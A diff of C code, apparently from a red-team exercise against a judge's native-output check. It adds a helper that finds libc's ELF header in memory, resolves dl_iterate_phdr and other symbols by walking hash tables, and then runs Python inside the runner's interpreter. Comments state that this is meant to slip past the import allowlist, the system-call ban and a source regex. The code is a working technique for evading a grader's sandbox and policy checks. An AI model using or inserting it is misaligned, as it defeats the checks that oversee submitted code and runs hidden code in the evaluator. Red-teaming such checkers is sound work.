@@ -2,12 +2,12 @@
 // From the red team of 2026-12-03 (native output check); the fix is named in docs/judge.md.
 /* Shared helper (pasted into each attack file): find a symbol exported by any loaded object
  * (libpython, libc) by walking the program headers and the GNU hash table, so the library
- * imports nothing that `nm -D` would flag, and the source names nothing the regex flags. */
+ * imports nothing the library policy refuses (only memset, memcmp and strcmp), holds no
+ * system-call instruction, and the source names nothing the regex flags. */
 #include <elf.h>
 #include <stddef.h>
 /* <link.h> hides these without _GNU_SOURCE (which -include ksmith_abi.h comes too late for). */
 struct dl_phdr_info { Elf64_Addr dlpi_addr; const char* dlpi_name; const Elf64_Phdr* dlpi_phdr; Elf64_Half dlpi_phnum; };
-extern int dl_iterate_phdr(int (*cb)(struct dl_phdr_info*, size_t, void*), void* data);
 #define ElfW(t) Elf64_##t
 #include <elf.h>
 #include <string.h>
@@ -48,7 +48,22 @@ static int rt_cb(struct dl_phdr_info* info, size_t sz, void* data) {
     }
     return 0;
 }
-static void* rt_find(const char* name) { struct rt_q q = {name, 0}; dl_iterate_phdr(rt_cb, &q); return q.addr; }
+/* dl_iterate_phdr itself is not imported (the library policy refuses it): it is looked up in
+ * libc's own symbol table, read in memory from the ELF header below an allowed import (memset). */
+typedef int (*rt_iterate)(int (*)(struct dl_phdr_info*, size_t, void*), void*);
+static void* rt_find(const char* name) {
+    uintptr_t base = (uintptr_t)&memset & ~(uintptr_t)4095;
+    while (memcmp((const void*)base, ELFMAG, SELFMAG)) base -= 4096;
+    const ElfW(Ehdr)* eh = (const void*)base;
+    struct dl_phdr_info libc = {base, "", (const void*)(base + eh->e_phoff), eh->e_phnum};
+    struct rt_q q = {"dl_iterate_phdr", 0};
+    rt_cb(&libc, sizeof libc, &q);
+    rt_iterate iterate = (rt_iterate)q.addr;
+    q.name = name;
+    q.addr = 0;
+    if (iterate) iterate(rt_cb, &q);
+    return q.addr;
+}
 /* Runs Python source in the runner's interpreter (GIL taken and released around it). */
 static int rt_python(const char* src) {
     int (*ensure)(void) = (int (*)(void))rt_find("PyGILState_Ensure");
